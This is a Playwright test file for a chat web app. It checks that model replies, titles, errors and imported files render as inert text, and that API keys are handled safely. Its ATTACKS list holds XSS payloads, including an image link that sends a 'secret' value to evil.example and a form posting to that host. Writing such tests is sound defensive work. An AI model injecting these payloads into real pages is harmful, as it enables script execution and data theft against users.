"""A37, A34: nothing that a model, a user or a file says runs, loads or looks like the page; keys stay in headers.

Every test ends with nobody having complained: no dialog was opened, and the content policy had nothing to stop.
"""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Route, expect

from tests.page.browser.tab import Tab, Tabs
from tests.page.browser.test_conversations import menu
from tests.page.memory_pictures import picture
from tests.page.scripted_page import Script, ScriptedPage

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><animate onbegin=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>* { display: none }</style>",
    "[link](JaVaScRiPt:alert(1))",
    "[link](java\tscript:alert(1))",
    "[link](&#106;avascript:alert(1))",
    "[link](data:text/html,<script>alert(1)</script>)",
    "![pixel](https://evil.example/?q=secret)",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    '```"onmouseover=alert(1)\n<b>code</b>\n```',
    "<a href='#' style='position:fixed;inset:0'>cover</a>",
    "<form action=//evil.example><button>Send</button></form>",
    "[x]: javascript:alert(1)\n[x]",
    "<details open ontoggle=alert(1)>",
    '"><script>alert(1)</script>',
]
"""What a model may be made to say."""
ALL = "\n\n".join(ATTACKS)
NEVER = {"script", "img", "iframe", "style", "object", "embed", "link", "meta", "svg", "input"}
"""Elements that no message has."""


def check(tab: Tab, where: str) -> None:
    """No element there that was not rendered on purpose, no attribute that does something, no link elsewhere."""
    found: dict[str, Any] = tab.page.evaluate(
        """(where) => {
            const ours = "svg, .tools, footer, button, form";
            const all = [...document.querySelectorAll(`${where} *`)].filter((each) => !each.closest(ours));
            return {
                names: [...new Set(all.map((each) => each.localName))],
                attributes: [...new Set(all.flatMap((each) => each.getAttributeNames()))],
                links: all.filter((each) => each.hasAttribute("href")).map((each) => each.protocol),
            };
        }""",
        where,
    )
    assert not NEVER & set(found["names"])
    assert not [name for name in found["attributes"] if name.startswith("on") or name in ("style", "src", "srcdoc")]
    assert set(found["links"]) <= {"http:", "https:", "mailto:"}


@pytest.fixture
def tab(tabs: Tabs, script: ScriptedPage) -> Tab:
    """Whatever the page asks of another host is a failure of its own."""
    tab = tabs.open(script.url)

    def elsewhere(route: Route) -> None:
        tab.said.append(f"asked {route.request.url}")
        route.abort()

    tab.page.route(lambda url: not url.startswith(script.url), elsewhere)
    return tab


@pytest.mark.parametrize("size", [3, 40])
def test_nothing_that_is_streamed_runs(tab: Tab, script: ScriptedPage, size: int) -> None:
    """Cut anywhere, so that a tag comes in two parts."""
    script.answers = lambda _: Script([ALL[at : at + size] for at in range(0, len(ALL), size)])
    tab.ask(ALL)
    tab.complete()
    expect(tab.answer).to_contain_text("<script>alert(1)</script>")
    check(tab, "#chat")
    assert tab.answer.locator("a[href^=https]").count() > 0, "an image is a link"
    tab.page.reload()
    tab.complete()
    check(tab, "#chat")


def test_nothing_that_is_thought_runs(tab: Tab, script: ScriptedPage) -> None:
    script.answers = lambda _: Script([f"<think>{ALL}", "</think>", "Done."])
    tab.ask("Think")
    tab.complete()
    tab.page.get_by_text("What it thought").click()
    expect(tab.last.locator(".thinking")).to_contain_text("<script>alert(1)</script>")
    check(tab, ".thinking")


@pytest.mark.parametrize("attack", [ATTACKS[0], ATTACKS[1], ATTACKS[17]])
def test_titles_and_hits_are_text(tab: Tab, script: ScriptedPage, attack: str) -> None:
    talk = script.talk_of(f"T {attack}", ("Hello", f"needle {attack}"))
    tab.page.goto(f"{script.url}/#/c/{talk.id}")
    tab.complete()
    expect(tab.page.locator("#title")).to_have_text(f"T {attack}")
    tab.page.get_by_role("searchbox").fill("needle")
    expect(tab.rows.locator("small")).to_have_text(f"needle {attack}")
    menu(tab, f"T {attack}", "Rename")
    expect(tab.page.get_by_label("Title")).to_have_value(f"T {attack}")
    tab.press("Escape")
    menu(tab, f"T {attack}", "Delete")
    expect(tab.toast).to_contain_text(attack)
    check(tab, "#list")
    check(tab, ".toast")


def test_errors_are_text(tab: Tab, script: ScriptedPage) -> None:
    script.answers = lambda _: Script([], fails={"message": ALL, "code": ATTACKS[0]})
    tab.ask("Fail")
    expect(tab.page.get_by_role("alert")).to_contain_text("<script>alert(1)</script>")
    check(tab, ".error")
    script.refuse_next = [(400, {"message": ALL, "code": None})]
    tab.ask("Refuse")
    expect(tab.page.locator(".after .error")).to_contain_text("<img src=x")
    check(tab, ".after")


def test_names_of_pieces_and_models_are_text(tab: Tab, script: ScriptedPage) -> None:
    talk = script.talk_of("x", ("Hello", "Hello."))
    script.memory = picture(6, [(talk.id, ATTACKS[1])])
    expect(tab.page.locator(".piece")).to_have_count(6)
    tab.page.locator(".piece.opens rect").first.hover()
    expect(tab.page.locator(".detail")).to_contain_text("<img src=x")
    check(tab, ".detail")


def test_a_brought_in_file_is_no_other_than_what_was_said(tab: Tab, script: ScriptedPage, tmp_path: Path) -> None:
    file = tmp_path / "evil.json"
    file.write_text(json.dumps({"title": ATTACKS[0], "turns": [script.turn(ALL, ALL, None)]}))
    tab.page.locator("#import-file").set_input_files(file)
    tab.complete()
    check(tab, "#chat")
    check(tab, ".toast")


def test_even_html_that_should_never_have_come_does_nothing(tab: Tab, script: ScriptedPage) -> None:
    """Were the server's sanitizer broken, nothing would run, and no link lead into the page."""
    stopped = r"Content Security Policy|^policy: (img-src|script-src)"
    tab.expected = re.compile(f"{tab.expected.pattern}|{stopped}")  # all that may be heard: no dialog
    turn = script.turn("Hello", "Hello.", None)
    links = "<a href='javascript:alert(1)'>a</a><a href='#/c/x'>b</a>"
    turn["blocks"] = [f"<p>{links}<img src=x onerror=alert(1)><script>alert(1)</script></p>"]
    talk = script.add("Broken", [turn])
    tab.page.goto(f"{script.url}/#/c/{talk.id}")
    tab.complete()
    assert tab.answer.locator("a[href]").count() == 0


# -- keys


def test_a_key_is_asked_for_once_and_kept_as_long_as_one_says(tabs: Tabs, script: ScriptedPage) -> None:
    script.key = "secret-key"  # the scripted server fails on any address that has it
    script.talk_of("Locked", ("Hello", "Hello."))
    tab = tabs.open(script.url)
    field = tab.page.get_by_label("API key")
    expect(tab.dialog).to_have_count(1)
    field.fill("wrong")
    tab.press("Enter")
    expect(tab.dialog).to_contain_text("That key is not known here.")
    field.fill("secret-key")
    tab.press("Enter")
    expect(tab.rows).to_have_count(1)
    expect(tab.page.locator("#subtitle")).to_contain_text("scripted/model")
    assert tab.page.evaluate("Object.values(localStorage).includes('secret-key')") is False
    tab.page.reload()
    expect(tab.rows).to_have_count(1)
    other = tabs.open(script.url)
    other.page.get_by_label("API key").fill("secret-key")
    other.page.get_by_label("Remember it on this device").check()
    other.press("Enter")
    expect(other.rows).to_have_count(1)
    third = tabs.open(script.url)
    expect(third.rows).to_have_count(1)
    third.button("Settings").click()
    third.button("Forget the key").click()
    expect(third.page.get_by_label("API key")).to_be_visible()
